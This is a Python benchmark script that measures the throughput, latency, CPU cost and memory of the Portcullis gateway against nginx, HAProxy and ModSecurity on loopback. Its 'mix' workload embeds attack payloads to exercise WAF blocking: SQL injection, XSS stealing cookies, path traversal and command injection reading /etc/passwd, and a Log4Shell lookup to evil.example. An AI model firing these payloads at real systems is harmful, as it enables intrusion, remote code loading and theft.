#!/usr/bin/env python3
"""Side-by-side load benchmark: Portcullis (bare and with its full default policy) against nginx,
HAProxy and nginx + ModSecurity + OWASP CRS, on loopback, same origin, same load, interleaved.

For every workload and peer it runs wrk and reports requests/s, p50/p99 latency, CPU time of the
peer's processes per request (from /proc), peak RSS, and each row's ratio to plain nginx.

  benches/load.py [--install] [--duration 10] [--connections 50] [--rounds 2]
                  [--workloads get,json,mix,https,https-new]
                  [--peers nginx,haproxy,modsec,pingora,bare,limit,limit-redis,full] [--idle 10000]
                  (also: log, waf, keys, and any of them with -nosteal)
                  [--rate 1000] [--bin target/release/portcullis] [--out benches/results/load.json]

Peers: `pingora` is the smallest Pingora proxy, written as Pingora's examples write one
(benches/pingora_baseline.rs, built here with cargo when missing; plain HTTP only, two threads
like the Portcullis peers): the floor of what any gateway on Pingora costs. `bare` is Portcullis with no policy and no access log; `limit` adds one per-client
rate-limit policy that never refuses (in-process limiter); `limit-redis` the same policy shared
through a redis-server started for the run; `full` the whole default policy (WAF paranoia 1 with
the shipped rules, the rate-limit policy, API-key check, JSON access log to a file). `log`, `waf`
and `keys` are `bare` plus that one part of the full policy, to see what each part costs.
`pingora` or any Portcullis peer with `-nosteal` appended (`bare-nosteal`) runs the same peer
with work stealing off (`server.work_stealing: false`: one runtime per thread).

--rate R compares latency at the same load instead of at saturation: every connection waits
1000 * connections / R ms after each response before its next request (wrk's `delay()`), so each
peer is offered about R requests/s whatever its capacity. A peer that cannot keep up shows fewer
requests/s than offered and is marked saturated. Without --rate, wrk sends as fast as each peer
answers, and latency mostly measures how busy the two cores are.

--idle N opens N idle keep-alive connections to every peer after the load runs and reports the
RSS each peer grew by (per connection and in all).

--install puts in what is missing with apt-get (wrk, nginx, libnginx-mod-http-modsecurity,
modsecurity-crs, haproxy). Peers whose software is absent are skipped and say so. This is a
benchmark, not a test: machines are noisy, so compare ratios measured side by side in one run.
"""
import argparse
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(HERE)
NGINX_MODSEC_MODULE = "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so"
CRS_DIR = "/usr/share/modsecurity-crs"


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def wait_port(port, timeout=20):
    deadline = time.time() + timeout
    while time.time() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            return True
        except OSError:
            time.sleep(0.05)
    return False


def install(pkgs=("wrk", "nginx", "libnginx-mod-http-modsecurity", "modsecurity-crs", "haproxy")):
    """Puts in `pkgs` with apt-get (benches/corpus-compare.py passes only the ones it needs) and
    stops the services Debian starts with them, so they do not hold ports or CPU."""
    env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
    subprocess.run(["apt-get", "update"], check=False, env=env, stdout=subprocess.DEVNULL)
    subprocess.run(["apt-get", "install", "-y", "--no-install-recommends", *pkgs], check=True, env=env,
                   stdout=subprocess.DEVNULL)
    for svc in ("nginx", "haproxy"):
        subprocess.run(["service", svc, "stop"], check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


class Proc:
    """A started server: its root pid and how to find all of its processes."""

    def __init__(self, name, argv, port, tls_port=None, cwd=None, env=None):
        self.name, self.port, self.tls_port = name, port, tls_port
        self.log = open(os.path.join(WORK, f"{name}.log"), "w")
        self.p = subprocess.Popen(argv, cwd=cwd, env=env, stdout=self.log, stderr=subprocess.STDOUT,
                                  start_new_session=True)
        if not wait_port(port):
            raise RuntimeError(f"{name} did not start; see {self.log.name}")

    def pids(self):
        out = {self.p.pid}
        frontier = [self.p.pid]
        while frontier:
            pid = frontier.pop()
            try:
                kids = open(f"/proc/{pid}/task/{pid}/children").read().split()
            except OSError:
                kids = []
            for k in kids:
                out.add(int(k))
                frontier.append(int(k))
        return out

    def cpu_seconds(self):
        tick = os.sysconf("SC_CLK_TCK")
        total = 0
        for pid in self.pids():
            try:
                fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
                total += int(fields[11]) + int(fields[12])  # utime, stime
            except OSError:
                pass
        return total / tick

    def peak_rss_mb(self):
        total = 0
        for pid in self.pids():
            try:
                for line in open(f"/proc/{pid}/status"):
                    if line.startswith("VmHWM:"):
                        total += int(line.split()[1])
            except OSError:
                pass
        return total / 1024

    def stop(self):
        try:
            os.killpg(self.p.pid, signal.SIGTERM)
            self.p.wait(timeout=10)
        except Exception:
            try:
                os.killpg(self.p.pid, signal.SIGKILL)
            except Exception:
                pass


def nginx_conf(name, port, tls_port, origin_port, modsec_pl=None, origin=False, modsec_threshold=None):
    """Writes WORK/<name>/nginx.conf: an origin (`return 200`), a plain reverse proxy to
    origin_port, or with modsec_pl the same proxy with ModSecurity and CRS at that paranoia level.
    modsec_threshold sets CRS's inbound anomaly threshold explicitly (left out: CRS's default, 5)."""
    d = os.path.join(WORK, name)
    os.makedirs(d, exist_ok=True)
    load = f"load_module {NGINX_MODSEC_MODULE};\n" if modsec_pl else ""
    modsec = ""
    if modsec_pl:
        rules = os.path.join(d, "modsec.conf")
        threshold = ("" if modsec_threshold is None else
                     f'SecAction "id:900110,phase:1,nolog,pass,t:none,'
                     f'setvar:tx.inbound_anomaly_score_threshold={modsec_threshold}"\n')
        with open(rules, "w") as f:
            f.write(f"""
SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit 13107200
SecRequestBodyNoFilesLimit 131072
SecResponseBodyAccess Off
SecAuditEngine Off
SecDebugLogLevel 0
SecArgumentSeparator &
SecCookieFormat 0
SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
Include /etc/modsecurity/crs/crs-setup.conf
SecAction "id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level={modsec_pl}"
{threshold}Include {CRS_DIR}/rules/*.conf
""")
        modsec = f"modsecurity on;\n        modsecurity_rules_file {rules};"
    body = 'return 200 "ok\\n";' if origin else f"""proxy_pass http://origin;
            proxy_http_version 1.1;
            proxy_set_header Connection "";"""
    tls = ""
    if tls_port:
        tls = f"""
    server {{
        listen 127.0.0.1:{tls_port} ssl;
        ssl_certificate {CERT};
        ssl_certificate_key {KEY};
        ssl_protocols TLSv1.2 TLSv1.3;
        {modsec}
        location / {{ {body} }}
    }}"""
    conf = f"""{load}worker_processes {1 if origin else 2};
pid {d}/nginx.pid;
error_log {d}/error.log warn;
daemon off;
events {{ worker_connections 20000; }}
http {{
    access_log off;
    client_body_temp_path {d}/body;
    proxy_temp_path {d}/proxy;
    fastcgi_temp_path {d}/fastcgi;
    uwsgi_temp_path {d}/uwsgi;
    scgi_temp_path {d}/scgi;
    keepalive_requests 100000;
    upstream origin {{ server 127.0.0.1:{origin_port}; keepalive 128; }}
    server {{
        listen 127.0.0.1:{port};
        {modsec}
        location / {{ {body} }}
    }}{tls}
}}
"""
    path = os.path.join(d, "nginx.conf")
    with open(path, "w") as f:
        f.write(conf)
    return path


# What each Portcullis peer turns on; `full` is the whole default policy.
POLICY_PARTS = {
    "bare": (),
    "log": ("log",),
    "waf": ("waf",),
    "keys": ("keys",),
    "limit": ("limit",),
    "limit-redis": ("limit",),
    "full": ("log", "waf", "keys", "limit"),
}


def portcullis_conf(name, port, tls_port, admin_port, origin_port, parts, redis_url=None, steal=True):
    d = os.path.join(WORK, name)
    os.makedirs(d, exist_ok=True)
    route_auth = ""
    extra = "access_log: { path: access.log }\n" if "log" in parts else "access_log: { path: off }\n"
    if "waf" in parts:
        extra += "waf: { rules: [builtin], paranoia: 1, mode: block }\n"
    if "keys" in parts:
        key_digest = subprocess.run([BIN, "keys", "hash"], input=BENCH_KEY, capture_output=True, text=True,
                                    check=True).stdout.strip()
        with open(os.path.join(d, "keys.yaml"), "w") as f:
            f.write(f'keys:\n  - {{ id: bench, digest: "{key_digest}" }}\n')
        route_auth = ", auth: api_key"
        extra += "api_keys: { file: keys.yaml }\n"
    if "limit" in parts:
        redis = f"\n  redis: {{ url: \"{redis_url}\" }}" if redis_url else ""
        extra += f"""rate_limits:{redis}
  policies:
    - {{ name: per-client, rate: 1000000, per: 1s, key: [client_ip] }}
"""
    conf = f"""server: {{ threads: 2, work_stealing: {'true' if steal else 'false'} }}
listeners:
  - {{ name: main, address: "127.0.0.1:{port}" }}
  - name: tls
    address: "127.0.0.1:{tls_port}"
    tls: {{ certificates: [{{ cert: "{CERT}", key: "{KEY}" }}], http2: false }}
admin: {{ address: "127.0.0.1:{admin_port}" }}
reload: {{ watch: false }}
upstreams:
  origin: {{ backends: ["127.0.0.1:{origin_port}"] }}
routes:
  - {{ name: app, upstream: origin{route_auth} }}
{extra}"""
    path = os.path.join(d, "gateway.yaml")
    with open(path, "w") as f:
        f.write(conf)
    return path, d


def haproxy_conf(port, tls_port, origin_port):
    d = os.path.join(WORK, "haproxy")
    os.makedirs(d, exist_ok=True)
    pem = os.path.join(d, "cert.pem")
    with open(pem, "w") as f:
        f.write(open(CERT).read() + open(KEY).read())
    path = os.path.join(d, "haproxy.cfg")
    with open(path, "w") as f:
        f.write(f"""global
    nbthread 2
    maxconn 20000
defaults
    mode http
    timeout connect 5s
    timeout client 30s
    timeout server 30s
    option http-keep-alive
frontend web
    bind 127.0.0.1:{port}
    bind 127.0.0.1:{tls_port} ssl crt {pem}
    default_backend origin
backend origin
    http-reuse always
    server o1 127.0.0.1:{origin_port}
""")
    return path


WRK_SCRIPTS = {
    "get": """
wrk.method = "GET"
wrk.path = "/search?q=blue+running+shoes&page=2&sort=price_asc"
wrk.headers["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36"
wrk.headers["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
wrk.headers["Accept-Language"] = "en-US,en;q=0.9"
wrk.headers["Cookie"] = "session=3f2a9c1e8b7d6a5f4e3d2c1b; theme=dark"
wrk.headers["X-API-Key"] = "KEY"
""",
    "json": """
local items = {}
for i = 1, 40 do
  items[#items + 1] = string.format('{"sku":"SKU-%05d","name":"Item number %d with a description","qty":%d,"price":%d.99}', i, i, i % 7 + 1, i * 3)
end
wrk.method = "POST"
wrk.path = "/api/orders"
wrk.body = '{"customer":{"id":4711,"name":"Jane O\\'Brien","email":"jane@example.com"},"items":[' .. table.concat(items, ",") .. '],"note":"Please leave the parcel at the door."}'
wrk.headers["Content-Type"] = "application/json"
wrk.headers["User-Agent"] = "orders-client/2.3"
wrk.headers["X-API-Key"] = "KEY"
""",
    "mix": """
local attacks = {
  "/search?q=1%27%20union%20select%20password%20from%20users--",
  "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
  "/files?name=..%2f..%2f..%2fetc%2fpasswd",
  "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
  "/x?v=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
}
local n = 0
request = function()
  n = n + 1
  local path = "/search?q=blue+running+shoes&page=2&sort=price_asc"
  if n % 10 == 0 then path = attacks[(n / 10) % #attacks + 1] end
  return wrk.format("GET", path, {["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64) Chrome/122.0", ["X-API-Key"] = "KEY"})
end
""",
    "https": """
wrk.method = "GET"
wrk.path = "/search?q=blue+running+shoes&page=2"
wrk.headers["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64) Chrome/122.0"
wrk.headers["X-API-Key"] = "KEY"
""",
    "https-new": """
wrk.method = "GET"
wrk.path = "/search?q=blue+running+shoes&page=2"
wrk.headers["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64) Chrome/122.0"
wrk.headers["X-API-Key"] = "KEY"
wrk.headers["Connection"] = "close"
""",
}


def parse_wrk(out):
    res = {}
    m = re.search(r"(\d+) requests in", out)
    res["requests"] = int(m.group(1)) if m else 0
    m = re.search(r"Requests/sec:\s+([\d.]+)", out)
    res["rps"] = float(m.group(1)) if m else 0.0
    m = re.search(r"Non-2xx or 3xx responses:\s+(\d+)", out)
    res["non2xx"] = int(m.group(1)) if m else 0
    m = re.search(r"Socket errors:.*", out)
    res["socket_errors"] = m.group(0) if m else ""

    def ms(label):
        m = re.search(rf"^\s*{label}%\s+([\d.]+)(us|ms|s)\s*$", out, re.M)
        if not m:
            return None
        v = float(m.group(1))
        # wrk prints 0 when no request finished within its timeout: there is no latency to show.
        return {"us": v / 1000, "ms": v, "s": v * 1000}[m.group(2)] if v > 0 else None

    res["p50_ms"], res["p99_ms"] = ms("50"), ms("99")
    return res


def pace_ms(conns, rate):
    """Milliseconds each of `conns` connections waits between requests to offer `rate` per second."""
    return max(1, round(1000 * conns / rate))


def run_wrk(peer, workload, args):
    script = os.path.join(WORK, f"{workload}.lua")
    tls = workload.startswith("https")
    port = peer.tls_port if tls else peer.port
    url = f"{'https' if tls else 'http'}://127.0.0.1:{port}"
    conns = conns_of(workload, args)
    with open(script, "w") as f:
        f.write(WRK_SCRIPTS[workload].replace("KEY", BENCH_KEY))
        if args.rate:
            f.write(f"function delay() return {pace_ms(conns, args.rate)} end\n")
    subprocess.run(["wrk", "-t", "1", "-c", str(conns), "-d", "1s", "-s", script, url],
                   capture_output=True, text=True)  # warm-up
    cpu0 = peer.cpu_seconds()
    out = subprocess.run(["wrk", "-t", "2", "-c", str(conns), "-d", f"{args.duration}s", "--latency", "-s", script,
                          url], capture_output=True, text=True).stdout
    cpu1 = peer.cpu_seconds()
    r = parse_wrk(out)
    r["cpu_us_per_req"] = (cpu1 - cpu0) * 1e6 / r["requests"] if r["requests"] else None
    r["peak_rss_mb"] = peer.peak_rss_mb()
    return r


def main():
    global WORK, CERT, KEY, BIN, BENCH_KEY
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--install", action="store_true")
    ap.add_argument("--duration", type=int, default=10)
    ap.add_argument("--connections", type=int, default=50)
    ap.add_argument("--rounds", type=int, default=1)
    ap.add_argument("--workloads", default="get,json,mix,https,https-new")
    ap.add_argument("--peers", default="nginx,haproxy,modsec,pingora,bare,limit,limit-redis,full")
    ap.add_argument("--idle", type=int, default=0)
    ap.add_argument("--rate", type=int, default=0, help="offered requests/s per peer (default: as fast as it answers)")
    ap.add_argument("--bin", default=os.path.join(REPO, "target/release/portcullis"))
    ap.add_argument("--out", default=os.path.join(REPO, "benches/results/load.json"))
    args = ap.parse_args()
    if args.install:
        install()
    if not shutil.which("wrk"):
        sys.exit("wrk is missing (run with --install)")
    BIN = os.path.abspath(args.bin)
    if not os.path.exists(BIN):
        sys.exit(f"{BIN} not found: cargo build --release")
    WORK = tempfile.mkdtemp(prefix="portcullis-bench-")
    CERT, KEY = os.path.join(WORK, "cert.pem"), os.path.join(WORK, "key.pem")
    subprocess.run([BIN, "certs", "self-signed", "--name", "127.0.0.1", "--name", "localhost", "--cert", CERT,
                    "--key", KEY], check=True, stdout=subprocess.DEVNULL)
    BENCH_KEY = "pc_bench_" + "k" * 40
    procs = {}
    try:
        origin_port = free_port()
        if not shutil.which("nginx"):
            sys.exit("nginx is needed as the origin (run with --install)")
        procs["origin"] = Proc("origin", ["nginx", "-c", nginx_conf("origin", origin_port, None, origin_port,
                                                                    origin=True)], origin_port)
        wanted = args.peers.split(",")
        for name in wanted:
            port, tls_port = free_port(), free_port()
            try:
                if name == "nginx":
                    procs[name] = Proc(name, ["nginx", "-c", nginx_conf(name, port, tls_port, origin_port)], port,
                                       tls_port)
                elif name == "modsec":
                    if not (os.path.exists(NGINX_MODSEC_MODULE) and os.path.isdir(CRS_DIR)):
                        print("skipping modsec: libnginx-mod-http-modsecurity / modsecurity-crs not installed "
                              "(--install)", file=sys.stderr)
                        continue
                    procs[name] = Proc(name, ["nginx", "-c", nginx_conf(name, port, tls_port, origin_port, modsec_pl=1)],
                                       port, tls_port)
                elif name == "haproxy":
                    if not shutil.which("haproxy"):
                        print("skipping haproxy: not installed (--install)", file=sys.stderr)
                        continue
                    procs[name] = Proc(name, ["haproxy", "-db", "-f", haproxy_conf(port, tls_port, origin_port)], port,
                                       tls_port)
                elif name in ("pingora", "pingora-nosteal"):
                    baseline = os.path.join(os.path.dirname(BIN), "examples", "pingora-baseline")
                    if not os.path.exists(baseline):
                        subprocess.run(["cargo", "build", "--release", "--example", "pingora-baseline"], cwd=REPO,
                                       check=True)
                    procs[name] = Proc(name, [baseline, f"127.0.0.1:{port}", f"127.0.0.1:{origin_port}", "2",
                                                   "nosteal" if name.endswith("-nosteal") else "steal"], port,
                                       env=dict(os.environ, RUST_LOG="warn"))
                elif name.removesuffix("-nosteal") in POLICY_PARTS:
                    steal = not name.endswith("-nosteal")
                    name_base = name.removesuffix("-nosteal")
                    redis_url = None
                    if name_base == "limit-redis":
                        if not shutil.which("redis-server"):
                            print("skipping limit-redis: redis-server not installed", file=sys.stderr)
                            continue
                        rport = free_port()
                        procs["redis"] = Proc("redis", ["redis-server", "--port", str(rport), "--save", "",
                                                        "--appendonly", "no"], rport)
                        redis_url = f"redis://127.0.0.1:{rport}"
                    conf, d = portcullis_conf(name, port, tls_port, free_port(), origin_port, POLICY_PARTS[name_base],
                                              redis_url=redis_url, steal=steal)
                    env = dict(os.environ, RUST_LOG="warn")
                    procs[name] = Proc(f"portcullis-{name}", [BIN, "run", "--config", conf], port, tls_port, cwd=d,
                                       env=env)
            except RuntimeError as e:
                print(f"skipping {name}: {e}", file=sys.stderr)
        peers = [p for p in wanted if p in procs]
        results = {}
        for rnd in range(args.rounds):
            for w in args.workloads.split(","):
                for p in peers:
                    if w.startswith("https") and procs[p].tls_port is None:
                        continue
                    r = run_wrk(procs[p], w, args)
                    results.setdefault(w, {}).setdefault(p, []).append(r)
                    print(f"round {rnd + 1} {w:10s} {p:8s} {r['rps']:10.0f} req/s  "
                          f"cpu {r['cpu_us_per_req'] or 0:7.1f} us/req  p99 {r['p99_ms']} ms  non2xx {r['non2xx']}",
                          file=sys.stderr)
        idle = {p: idle_rss(procs[p], args.idle) for p in peers} if args.idle else {}
        report(results, args, idle)
    finally:
        for p in procs.values():
            p.stop()


def current_rss_kb(proc):
    total = 0
    for pid in proc.pids():
        try:
            for line in open(f"/proc/{pid}/status"):
                if line.startswith("VmRSS:"):
                    total += int(line.split()[1])
        except OSError:
            pass
    return total


def idle_rss(proc, n):
    """Opens n idle keep-alive connections (each has sent one request and read its answer) and
    returns (connections held, RSS growth in MB)."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = n + 256
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    before = current_rss_kb(proc)
    socks = []
    try:
        for _ in range(n):
            s = socket.create_connection(("127.0.0.1", proc.port), timeout=5)
            socks.append(s)
        # One request on each, so every connection went through the request path, then idle.
        for s in socks:
            s.sendall(b"GET /idle HTTP/1.1\r\nHost: bench\r\nX-API-Key: " + BENCH_KEY.encode() + b"\r\n\r\n")
        for s in socks:
            s.recv(65536)
        time.sleep(1)
        after = current_rss_kb(proc)
        held = len(socks)
    except OSError as e:
        print(f"{proc.name}: idle connections stopped at {len(socks)}: {e}", file=sys.stderr)
        after, held = current_rss_kb(proc), len(socks)
    finally:
        for s in socks:
            s.close()
    print(f"idle {proc.name:20s} {held} connections: +{(after - before) / 1024:.1f} MB RSS", file=sys.stderr)
    return {"connections": held, "rss_growth_mb": (after - before) / 1024,
            "kb_per_connection": (after - before) / held if held else None}


def conns_of(workload, args):
    return args.connections if workload != "https-new" else min(args.connections, 16)


def offered(workload, args):
    """Requests/s the paced connections of `workload` would send to a peer that answered at once."""
    c = conns_of(workload, args)
    return c * 1000 / pace_ms(c, args.rate)


def median(xs):
    xs = sorted(x for x in xs if x is not None)
    return xs[len(xs) // 2] if xs else None


def report(results, args, idle):
    summary = {}
    paced = (f"paced at about {args.rate} req/s offered (each connection waits "
             f"{pace_ms(args.connections, args.rate)} ms between requests); " if args.rate else "")
    lines = [f"load: wrk -t2 -c{args.connections} -d{args.duration}s, {args.rounds} round(s), interleaved; "
             f"{paced}medians; ratios to nginx", ""]
    for w, peers in results.items():
        lines.append(f"## {w}")
        lines.append(f"| peer | req/s | p50 ms | p99 ms | CPU µs/req | peak RSS MB | CPU ×nginx | p99 ×nginx | non-2xx |")
        lines.append("|---|---|---|---|---|---|---|---|---|")
        base = {k: median([r[k] for r in peers.get("nginx", [])]) for k in ("cpu_us_per_req", "p99_ms")}
        for p, rs in peers.items():
            row = {k: median([r[k] for r in rs]) for k in ("rps", "p50_ms", "p99_ms", "cpu_us_per_req",
                                                          "peak_rss_mb", "non2xx")}
            cpu_x = row["cpu_us_per_req"] / base["cpu_us_per_req"] if base["cpu_us_per_req"] and row["cpu_us_per_req"] else None
            p99_x = row["p99_ms"] / base["p99_ms"] if base["p99_ms"] and row["p99_ms"] else None
            row["cpu_x_nginx"], row["p99_x_nginx"] = cpu_x, p99_x
            summary.setdefault(w, {})[p] = row
            f = lambda v, fmt: "-" if v is None else format(v, fmt)
            # Each connection waits its pace after every answer, so even an idle peer answers a
            # little below the offered rate; well below it, the peer is the bottleneck.
            saturated = bool(args.rate) and row["rps"] < 0.8 * offered(w, args)
            row["saturated"] = saturated
            lines.append(f"| {p}{' (saturated)' if saturated else ''} | {f(row['rps'], '.0f')} | {f(row['p50_ms'], '.2f')} | {f(row['p99_ms'], '.2f')} | "
                         f"{f(row['cpu_us_per_req'], '.1f')} | {f(row['peak_rss_mb'], '.0f')} | {f(cpu_x, '.2f')} | "
                         f"{f(p99_x, '.2f')} | {f(row['non2xx'], 'd')} |")
        lines.append("")
    if idle:
        lines.append(f"## idle keep-alive connections")
        lines.append("| peer | connections | RSS growth MB | KB per connection |")
        lines.append("|---|---|---|---|")
        for p, r in idle.items():
            per = "-" if r["kb_per_connection"] is None else f"{r['kb_per_connection']:.1f}"
            lines.append(f"| {p} | {r['connections']} | {r['rss_growth_mb']:.1f} | {per} |")
        lines.append("")
    text = "\n".join(lines)
    print(text)
    os.makedirs(os.path.dirname(args.out), exist_ok=True)
    with open(args.out, "w") as f:
        json.dump({"settings": vars(args), "results": summary, "idle": idle}, f, indent=2)


if __name__ == "__main__":
    main()
